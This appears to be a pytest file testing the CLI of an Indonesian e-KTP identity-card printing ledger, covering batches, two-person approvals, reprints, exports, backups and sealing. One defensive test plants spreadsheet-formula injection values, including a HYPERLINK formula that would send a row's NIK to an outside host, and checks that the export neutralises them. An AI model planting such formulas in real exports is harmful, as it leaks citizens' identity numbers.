"""The desk's commands, each through click's runner on both stores: blanks, ribbons and
batches at a glance; holds, cancellations and reprints with their two-person rules; the
manifests and single hand-overs; export, backup and sealing; a password changed; a plan from a
sheet with its own headers; a simulation's report on standard output."""

from __future__ import annotations

import csv
import json
import os
import re
import select
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

import ektpcore
from ektpcore import Actor, Ledger, Role, State
from ektpcore.cli import main
from ektpcore.keys import KeyFile

from .conftest import card_intake

OPERATOR, SUPERVISOR = Actor("ani", Role.OPERATOR), Actor("budi", Role.SUPERVISOR)
NIKS = [int(v) for v in ektpcore.sample_niks(10, seed=33)]
PASSWORD = "kata sandi yang panjang"


def run(*words: object, code: int = 0, stdin: str | None = None, **env: str) -> Result:
    result = CliRunner().invoke(
        main, [str(w) for w in words], input=stdin, env=env, catch_exceptions=False
    )
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    return result


@pytest.fixture
def desk(ledger_location: str, tmp_path: Path) -> str:
    """Ten records: six printed in batch B-1, four of them through QC, on a manifest that
    reached the kecamatan; the rest print-ready."""
    with Ledger(ledger_location) as led:
        led.add_records(
            NIKS,
            OPERATOR,
            state=State.PRINT_READY,
            kecamatan=["Bogor Barat"] * 10,
            kelurahan=["Menteng", "Cilendek"] * 5,
            **card_intake(NIKS, str(tmp_path / "foto.png")),
        )
        led.blanks.receive("LOT-1", 1, 50, SUPERVISOR)
        led.ribbons.install("P1", "YMCKO", 500, OPERATOR)
        serials = led.queue(NIKS[:6], "B-1", "P1", OPERATOR)
        led.transition(NIKS[:6], State.PRINTED, OPERATOR, batch="B-1", printer="P1", blanks=serials)
        led.transition(NIKS[:4], State.ENCODED, OPERATOR)
        led.transition(NIKS[:4], State.QC_PASSED, OPERATOR)
        (m,) = led.distribution.build(OPERATOR)
        led.distribution.dispatch(m.id, OPERATOR)
        led.distribution.receive(m.id, "Ibu Camat", 4, OPERATOR)
    return ledger_location


def test_blanks_ribbons_and_batches_at_a_glance(desk: str) -> None:
    lots = run("blanks", "list", desk).stdout
    assert "lot LOT-1: 1-50 (50), received " in lots
    assert re.search(r"IN_STOCK\s+44\n", lots)
    assert "P1: YMCKO, 494 of 500 prints left" in run("ribbon", "status", desk).stdout
    changed = run(
        "ribbon", "change", desk, "--printer", "P1", "--remaining", "400", "--operator", "ani"
    ).stdout
    assert "(494 prints were left on the old one); YMCKO, 400 of 500 prints" in changed
    assert "ribbon 2 of this printer" in run("ribbon", "status", desk, "--printer", "P1").stdout
    shown = run("batch", "show", desk, "B-1").stdout
    assert "records 2 PRINTED, 4 AT_KECAMATAN; blanks 6 USED" in shown
    assert (
        len(re.findall(r"^  \d{4}\*{10}\d{2} \(W\. C\.\), (Menteng|Cilendek): ", shown, re.M)) == 6
    )
    assert all(str(n) not in shown for n in NIKS)
    assert "B-1: P1, queued " in run("batch", "list", desk).stdout
    assert run("batch", "list", desk, "--waiting").stdout == "no batch has cards waiting\n"


def test_holds_and_cancellations_with_the_two_person_rule(desk: str) -> None:
    who, boss, other = ("--operator", "ani"), ("--supervisor", "budi"), ("--supervisor", "sari")
    run("record", "hold", desk, NIKS[8], "--reason", "address in question", *who)
    run("record", "release", desk, NIKS[8], "--reason", "address confirmed", *boss)
    run("record", "cancel", desk, NIKS[9], "--reason", "moved to Depok", *boss)
    refused = run("record", "cancel", desk, NIKS[4], "--reason", "damaged", *boss, code=8)
    assert "holds a printed card (PRINTED)" in refused.stderr
    filed = run("record", "cancel", desk, NIKS[4], "--reason", "damaged", "--request", *boss)
    (number,) = re.findall(r"request (\d+) to cancel it filed", filed.stdout)
    assert f"request {number}: " in run("record", "requests", desk).stdout
    same = run("record", "approve", desk, number, *boss, code=8)
    assert "another person approves it" in same.stderr
    run("record", "approve", desk, number, *other)
    with Ledger(desk, create=False) as led:
        assert led.state_of(NIKS[8]) is State.PRINT_READY
        assert led.state_of(NIKS[9]) is State.CANCELLED
        assert led.state_of(NIKS[4]) is State.CANCELLED
        assert led.blanks.counts()[ektpcore.BlankState.VOIDED] == 1


def test_niks_read_from_standard_input_never_on_the_command_line(desk: str) -> None:
    """Every command that names records by NIK takes ``-``: the NIKs from standard input, one
    a line, so that none is in the process list or the shell's history. Each line is checked
    before the ledger is opened: a bad one is one line naming it (the NIK masked), exit 2, and
    nothing changes; the argument form keeps working for scripts."""
    who, boss = ("--operator", "ani"), ("--supervisor", "budi")
    typed = run("ledger", "where-is", desk, NIKS[6]).stdout
    assert run("ledger", "where-is", desk, "-", stdin=f"{NIKS[6]}\n").stdout == typed
    run("record", "hold", desk, "-", "--reason", "address in question", *who, stdin=f"{NIKS[8]}")
    run("record", "release", desk, "-", "--reason", "confirmed", *boss, stdin=f"\n {NIKS[8]} \n")
    run("record", "cancel", desk, "-", "--reason", "moved to Depok", *boss, stdin=f"{NIKS[9]}\n")
    asked = run(
        "reprint", "request", desk, "-", "--reason", "x", *who, stdin=f"{NIKS[7]}\n", code=8
    )
    assert asked.stderr.startswith("Error: ")
    assert asked.stderr.count("\n") == 1
    with Ledger(desk, create=False) as led:
        before = {n: led.state_of(n) for n in NIKS}
        history = sum(len(led.history(n)) for n in NIKS)
    assert before[NIKS[8]] is State.PRINT_READY
    assert before[NIKS[9]] is State.CANCELLED
    short = str(NIKS[5])[:15]
    refusals = [
        (("qc", "fail", desk, "-", "--reason", "smudge", *who), f"{NIKS[5]}\n{short}\n", 2),
        (("record", "hold", desk, "-", "--reason", "x", *who), f"{NIKS[6]}\n{NIKS[7]}\n", 2),
        (("record", "hold", desk, "-", "--reason", "x", *who), f"{NIKS[6]}x\n", 1),
        (("handover", desk, "-", "--identity-check", "KK", *who), "\n\n", 0),
        (("record", "hold", desk, "-", "-", "--reason", "x", *who), f"{NIKS[6]}\n", 0),
        (("qc", "pass", desk, "-", "-", *who), f"{NIKS[5]}\n", 0),
    ]
    for words, given, line in refusals:
        refused = run(*words, stdin=given, code=2)
        assert refused.stderr.startswith("Error: ")
        assert refused.stderr.count("\n") == 1
        if line:
            assert refused.stderr.startswith(f"Error: standard input, line {line}: ")
        assert short not in refused.stderr
        assert str(NIKS[6]) not in refused.stderr
    with Ledger(desk, create=False) as led:
        assert {n: led.state_of(n) for n in NIKS} == before
        assert sum(len(led.history(n)) for n in NIKS) == history
    run("qc", "pass", desk, NIKS[4], "-", *who, stdin=f"\ufeff{NIKS[5]}\r\n")
    with Ledger(desk, create=False) as led:
        assert led.state_of(NIKS[4]) is led.state_of(NIKS[5]) is State.QC_PASSED


def test_at_a_terminal_the_nik_is_asked_for(desk: str) -> None:
    """At a desk ``-`` asks for the NIK on the terminal: one NIK and Enter (a scanner's) for a
    command that names one record, NIKs until an empty line for one that names several; the
    process's command line never holds one."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}

    def at_terminal(*words: object, typed: str) -> tuple[str, str, str]:
        leader, follower = os.openpty()
        with subprocess.Popen(
            [sys.executable, "-m", "ektpcore", *map(str, words)],
            stdin=follower,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
            text=True,
        ) as child:
            os.close(follower)
            assert child.stderr is not None
            if not select.select([child.stderr], [], [], 60)[0]:
                child.kill()  # no prompt: fail, never hang
                pytest.fail("no prompt for the NIK on the terminal")
            asked = child.stderr.readline()  # the prompt: the command waits for the NIK
            # What ps shows of the command while it runs.
            cmdline = Path(f"/proc/{child.pid}/cmdline").read_bytes().decode()
            assert "ektpcore" in cmdline
            os.write(leader, typed.encode())
            try:
                out, err = child.communicate(timeout=60)
            except subprocess.TimeoutExpired:
                child.kill()  # still waiting for a NIK: fail, never hang
                raise
            err = asked + err
        os.close(leader)
        assert child.returncode == 0, err
        return out, err, cmdline

    out, err, cmdline = at_terminal("ledger", "where-is", desk, "-", typed=f"{NIKS[6]}\n")
    assert out == run("ledger", "where-is", desk, NIKS[6]).stdout
    assert err == "NIK, typed or scanned:\n"
    assert str(NIKS[6]) not in cmdline
    who = ("--operator", "ani")
    out, err, _ = at_terminal("qc", "pass", desk, "-", *who, typed=f"{NIKS[4]}\n{NIKS[5]}\n\n")
    assert out.startswith("2 cards passed quality control")
    assert err.startswith("NIKs, typed or scanned, one a line; an empty line ends them:")


def test_hand_overs_manifests_and_a_reprint(desk: str) -> None:
    who, boss = ("--operator", "ani"), ("--supervisor", "budi")
    listed = run("manifest", "list", desk).stdout
    assert listed.startswith("manifest 1: Bogor Barat, 4 cards, RECEIVED (Cilendek 2, Menteng 2)")
    shown = run("manifest", "show", desk, "1").stdout
    assert shown.count("AT_KECAMATAN") == 4
    run("handover", desk, NIKS[0], "--identity-check", "KK and photo", *who)
    with Ledger(desk, create=False) as led:
        serial = led.where_is(NIKS[1]).card_serial
    run("handover", desk, "--blank", serial, "--identity-check", "KK", "--receiver", "Ibu", *who)
    asked = run("reprint", "request", desk, NIKS[0], "--reason", "lost, police letter", *who)
    (first,) = re.findall(r"reprint request (\d+) filed", asked.stdout)
    run("reprint", "refuse", desk, first, "--note", "the card was found", *boss)
    again = run("reprint", "request", desk, NIKS[0], "--reason", "lost for good", *who)
    (second,) = re.findall(r"reprint request (\d+) filed", again.stdout)
    done = run("reprint", "approve", desk, second, *boss).stdout
    assert f"request {second} approved: " in done
    assert "is PRINT_READY (requested by ani)" in done
    with Ledger(desk, create=False) as led:
        assert led.state_of(NIKS[1]) is State.ISSUED
        assert led.state_of(NIKS[0]) is State.PRINT_READY


def test_export_backup_and_sealing(desk: str, tmp_path: Path) -> None:
    out = tmp_path / "issued.csv"
    written = run("ledger", "export", desk, out, "--state", "at_kecamatan").stdout
    assert "4 records written" in written
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = out.read_text(encoding="utf-8").splitlines()
    assert rows[0].startswith("nik,name,state,kecamatan,kelurahan,card_serial")
    assert sorted(int(r.split(",")[0]) for r in rows[1:]) == sorted(NIKS[:4])
    copy = tmp_path / "copy.db"
    backed = run("ledger", "backup", desk, copy).stdout
    if "://" in desk:
        assert "dumped to" in backed
        assert copy.read_bytes()[:5] == b"PGDMP"
    else:
        assert "history verified" in backed
        with Ledger(copy, create=False) as led:
            assert led.counts()[State.AT_KECAMATAN] == 4
    keys = tmp_path / "bureau.keys"
    sealed = run("ledger", "seal", desk, "--keys", keys, "--new-keys").stdout
    assert "sealed, 10 records" in sealed
    assert stat.S_IMODE(keys.stat().st_mode) == 0o600
    run("ledger", "status", desk, code=6)
    status = run("ledger", "status", desk, EKTPCORE_LEDGER_KEYS=str(keys)).stdout
    assert "sealed ledger" in status
    found = run("ledger", "where-is", desk, NIKS[2], "--keys", keys).stdout
    assert "AT_KECAMATAN" in found
    assert str(NIKS[2]) not in found
    with Ledger(desk, create=False, keys=KeyFile(keys)) as led:
        assert led.where_is(NIKS[7]).card.missing() == []  # still printable when sealed


def test_an_export_keeps_text_that_looks_like_a_formula_as_text(
    ledger_location: str, tmp_path: Path
) -> None:
    # A name or address taken in as a formula would run when a clerk opens the export in a
    # spreadsheet: =HYPERLINK(...) sends the row's NIK away on a click.
    niks = [int(v) for v in ektpcore.sample_niks(2, seed=34)]
    intake = card_intake(niks, str(tmp_path / "foto.png"))
    intake["names"] = ['=HYPERLINK("http://example.org/?"&A2,"Siti")', "Budi Santoso"]
    intake["card"]["address"] = ["@SUM(1+1)", "-2+3"]
    with Ledger(ledger_location) as led:
        led.add_records(
            niks, OPERATOR, state=State.PRINT_READY, kelurahan=["+Menteng"] * 2, **intake
        )
    out = tmp_path / "export.csv"
    run("ledger", "export", ledger_location, out)
    with out.open(encoding="utf-8", newline="") as f:
        rows = {row["nik"]: row for row in csv.DictReader(f)}
    first, second = rows[str(niks[0])], rows[str(niks[1])]
    assert first["name"] == """'=HYPERLINK("http://example.org/?"&A2,"Siti")"""
    assert (first["address"], second["address"]) == ("'@SUM(1+1)", "'-2+3")
    assert (second["name"], second["kelurahan"]) == ("Budi Santoso", "'+Menteng")
    assert not any(cell[:1] in "=+-@" for row in rows.values() for cell in row.values() if cell)


def test_a_backup_never_puts_a_password_on_pg_dumps_command_line(tmp_path: Path) -> None:
    # Every account of the machine reads a process's command line (ps, /proc/PID/cmdline):
    # the password goes to pg_dump through its environment, wherever the URL holds it.
    from ektpcore.cli.ledger import _pg_dump_command

    dest = tmp_path / "bureau.dump"
    for url in (
        "postgresql://ani:s3cr%40t@db:5432/bureau?sslmode=require",
        "postgresql://ani@db:5432/bureau?sslmode=require&password=s3cr%40t",
    ):
        command, env = _pg_dump_command("pg_dump", url, dest)
        assert not any("s3cr" in word for word in command), command
        assert env["PGPASSWORD"] == "s3cr@t"
        assert command[-1] == "--dbname=postgresql://ani@db:5432/bureau?sslmode=require"
    command, _ = _pg_dump_command(
        "pg_dump", "postgresql://db/bureau?options=-csearch_path%3Dbogor%20-cjit%3Doff", dest
    )
    assert (
        command[-1] == "--dbname=postgresql://db/bureau?options=-csearch_path%3Dbogor%20-cjit%3Doff"
    )
    with pytest.raises(click.ClickException, match="passphrase"):
        _pg_dump_command("pg_dump", "postgresql://db/bureau?sslpassword=k3y", dest)


def test_a_password_changed_by_the_administrator(ledger_location: str) -> None:
    env = {"EKTPCORE_PASSWORD": PASSWORD, "EKTPCORE_NEW_PASSWORD": PASSWORD}
    run("ledger", "init", ledger_location)
    run("users", "create-administrator", ledger_location, "--name", "root", **env)
    run(
        "users",
        "add",
        ledger_location,
        "--admin",
        "root",
        "--name",
        "ani",
        "--role",
        "operator",
        **env,
    )
    fresh = "another long password"
    run(
        "users",
        "set-password",
        ledger_location,
        "--admin",
        "root",
        "--name",
        "ani",
        EKTPCORE_PASSWORD=PASSWORD,
        EKTPCORE_NEW_PASSWORD=fresh,
    )
    old = run(
        "ribbon", "install", ledger_location, "--printer", "P1", "--user", "ani", code=7, **env
    )
    assert old.stderr == "Error: sign-in refused: unknown user or wrong password\n"
    run(
        "ribbon",
        "install",
        ledger_location,
        "--printer",
        "P1",
        "--user",
        "ani",
        EKTPCORE_PASSWORD=fresh,
    )


def test_two_supervisor_accounts_made_by_one_administrator_show_in_the_users_audit(
    desk: str,
) -> None:
    """The two-person rule counts accounts, not people: an administrator who makes two
    supervisor accounts approves a reprint alone. The ledger cannot tell; its audit can show
    it: ``users audit`` lists who created each account and role, and the card's history names
    both accounts (docs/security.md)."""
    env = {"EKTPCORE_PASSWORD": PASSWORD, "EKTPCORE_NEW_PASSWORD": PASSWORD}
    run("users", "create-administrator", desk, "--name", "root", **env)
    for name, role in (("sari", "supervisor"), ("sari-2", "operator")):
        run("users", "add", desk, "--admin", "root", "--name", name, "--role", role, **env)
    run(
        "users", "grant", desk, "--admin", "root", "--name", "sari-2", "--role", "supervisor", **env
    )
    run(
        "handover", desk, "-", "--identity-check", "KK", "--user", "sari", stdin=f"{NIKS[0]}", **env
    )
    asked = run("reprint", "request", desk, NIKS[0], "--reason", "lost", "--user", "sari", **env)
    (number,) = re.findall(r"reprint request (\d+) filed", asked.stdout)
    run("reprint", "approve", desk, number, "--user", "sari-2", **env)
    with Ledger(desk, create=False) as led:
        assert led.state_of(NIKS[0]) is State.PRINT_READY
    audit = run("users", "audit", desk).stdout.splitlines()
    assert len(audit) == 4
    assert all(
        re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d WIB root \(administrator\): ", a) for a in audit
    )
    assert audit[1].endswith("user created sari: person, supervisor")
    assert audit[3].endswith("role granted sari-2: supervisor granted, operator revoked")
    assert "secret" not in "".join(audit)
    only = run("users", "audit", desk, "--name", "SARI-2").stdout.splitlines()
    assert only == audit[2:]
    history = run("ledger", "where-is", desk, "-", "--history", stdin=f"{NIKS[0]}\n").stdout
    assert history.splitlines()[-1].endswith(
        "sari-2 (supervisor) ISSUED -> PRINT_READY: lost (requested by sari, approved by sari-2)"
    )


def test_a_ledger_with_users_is_sealed_by_its_administrator_only(
    ledger_location: str, tmp_path: Path
) -> None:
    """Whoever seals a ledger decides who can open it: without a sign-in, or signed in as a
    supervisor, `ledger seal` is one line and exit 7, and neither the ledger nor a key file
    changes; the administrator seals it, and the audit says so."""
    env = {"EKTPCORE_PASSWORD": PASSWORD, "EKTPCORE_NEW_PASSWORD": PASSWORD}
    run("ledger", "init", ledger_location)
    run("users", "create-administrator", ledger_location, "--name", "root", **env)
    run(
        "users", "add", ledger_location, "--admin", "root", "--name", "budi",
        "--role", "supervisor", **env,
    )  # fmt: skip
    run("blanks", "receive", ledger_location, "--lot", "L1", "--first", "1", "--last", "10",
        "--user", "budi", **env)  # fmt: skip
    keys = tmp_path / "mine.keys"
    seal = ("ledger", "seal", ledger_location, "--keys", keys, "--new-keys")
    for who in ((), ("--user", "budi")):
        refused = run(*seal, *who, code=7, **env)
        assert refused.stderr.count("\n") == 1
        assert not keys.exists()
    assert "IN_STOCK" in run("blanks", "list", ledger_location).stdout  # still open, no keys
    assert "sealed, 0 records" in run(*seal, "--user", "root", **env).stdout
    with Ledger(ledger_location, create=False, keys=KeyFile(keys)) as led:
        last = led.audit()[-1]
        assert (last.actor, last.role, last.event) == ("root", "ADMINISTRATOR", "ledger sealed")
        assert led.verify().ok


def test_a_plan_from_a_sheet_with_its_own_headers(tmp_path: Path) -> None:
    sheet = tmp_path / "antrian.csv"
    rows = ["Nomor Induk;Kecamatan;Siap"] + [f"{n};Bogor Barat;" for n in NIKS[:6]]
    rows.append("32710145O8990001;Bogor Barat;")
    rows.append(f"{NIKS[6]};Bogor Barat;unknown")
    sheet.write_text("\n".join(rows) + "\n", encoding="utf-8")
    printers = tmp_path / "printers.toml"
    printers.write_text('[[printers]]\nid = "P1"\ncards_per_hour = 60\n', encoding="utf-8")
    out = tmp_path / "plan.csv"
    planned = run(
        "plan",
        sheet,
        printers,
        "--blanks",
        "10",
        "--column",
        "nik=Nomor Induk",
        "--start",
        "2017-11-13T08:00",
        "--csv",
        out,
        "--output",
        tmp_path / "ok.csv",
        code=13,
    )
    assert "6 cards in 1 batch, 2017-11-13 08:00:00 WIB to" in planned.stdout
    assert "not scheduled (NOT_READY): 1" in planned.stdout
    assert "row 8, 3271**********01 (Nomor Induk): invalid NIK: non_digit" in planned.stderr
    assert "32710145O8990001" not in planned.output
    rejects = (tmp_path / "antrian-rejects.csv").read_text(encoding="utf-8").splitlines()
    assert rejects[1].startswith("8,3271**********01,,Nomor Induk,invalid NIK")
    assert len(out.read_text(encoding="utf-8").splitlines()) == 8  # header and 7 records
    assert len((tmp_path / "ok.csv").read_text(encoding="utf-8").splitlines()) == 8


def test_a_simulations_report_on_standard_output(tmp_path: Path) -> None:
    small = [
        "records.print_ready=300",
        "records.sent_for_enrolment=0",
        "records.bio_captured=0",
        "blanks.in_stock=250",
        "printers.count=2",
        "campaign.max_days=20",
    ]
    words: list[Any] = ["simulate", "--seed", "3", "--quiet", "--no-plot", "--json", "-"]
    for o in small:
        words += ["--set", o]
    result = run(*words)
    report = json.loads(result.stdout)
    assert report["seed"] == 3
    assert report["bottlenecks"][0].startswith("blanks: a BOTTLENECK")
    assert "bottlenecks:" in result.stderr
    assert "BLANK SHORTFALL" in result.stderr


def test_a_batch_taken_back_from_a_printer_that_broke_down(ledger_location: str) -> None:
    """P2 broke down before printing its batch: the batch's queued cards are taken out of it,
    print-ready again with their blanks back in stock, and planned anew for P1."""
    with Ledger(ledger_location) as led:
        led.add_records(NIKS[:4], OPERATOR, state=State.PRINT_READY, kecamatan=["Bogor Barat"] * 4)
        led.blanks.receive("LOT-1", 1, 10, SUPERVISOR)
        led.queue(NIKS[:3], "B-P2", "P2", OPERATOR)
    who = ("--operator", "ani")
    out = run("batch", "pull", ledger_location, "B-P2", "--reason", "P2 rusak", *who).stdout
    assert "B-P2: 3 cards taken out of the batch, PRINT_READY again; 3 blanks back in stock" in out
    with Ledger(ledger_location, create=False) as led:
        assert led.counts() == {State.PRINT_READY: 4}
        assert led.blanks.counts() == {ektpcore.BlankState.IN_STOCK: 10}
        assert led.blanks.reconcile().balanced
    again = run("batch", "pull", ledger_location, "B-P2", "--reason", "lagi", *who, code=9)
    assert "no card queued to take out" in again.stderr
    run("batch", "pull", ledger_location, "B-NOPE", "--reason", "x", *who, code=10)


def test_a_committed_plan_says_where_the_ribbon_is_changed(
    ledger_location: str, tmp_path: Path
) -> None:
    """The ribbon in P1 has 3 prints left: the plan changes it before the batch's fourth
    card, and says so, so the operator has the new ribbon at hand when the station stops."""
    with Ledger(ledger_location) as led:
        led.add_records(NIKS[:5], OPERATOR, state=State.PRINT_READY, kecamatan=["Bogor Barat"] * 5)
        led.blanks.receive("LOT-1", 1, 10, SUPERVISOR)
        led.ribbons.install("P1", "YMCKO", 500, OPERATOR, remaining=3)
    printers = tmp_path / "printers.toml"
    printers.write_text('[[printers]]\nid = "P1"\ncards_per_hour = 120\n', encoding="utf-8")
    out = run(
        "plan", printers, "--ledger", ledger_location, "--commit", "--prefix", "R",
        "--operator", "ani",
    ).stdout  # fmt: skip
    assert re.search(r"R-00001: 5 cards queued for P1 .*; ribbon change before its card 4", out)


def test_a_collection_sheet_naming_a_card_twice_hands_it_over_once(
    desk: str, tmp_path: Path
) -> None:
    """The kelurahan's list names one citizen twice: one card is handed over, the second row
    is left out as a repeat, and the summary counts what happened."""
    sheet = tmp_path / "ambil.csv"
    sheet.write_text(
        f"NIK;CEK_IDENTITAS\n{NIKS[2]};KK\n{NIKS[3]};KK\n{NIKS[2]};KK lagi\n", encoding="utf-8"
    )
    result = run("handover", desk, "--sheet", sheet, "--operator", "ani", code=13)
    assert "ambil.csv: 2 cards handed over (ISSUED); 1 left out" in result.stdout
    assert "row 4, " in result.stderr
    assert "the NIK repeats row 2" in result.stderr
    with Ledger(desk, create=False) as led:
        assert led.state_of(NIKS[2]) is State.ISSUED
        assert led.state_of(NIKS[3]) is State.ISSUED
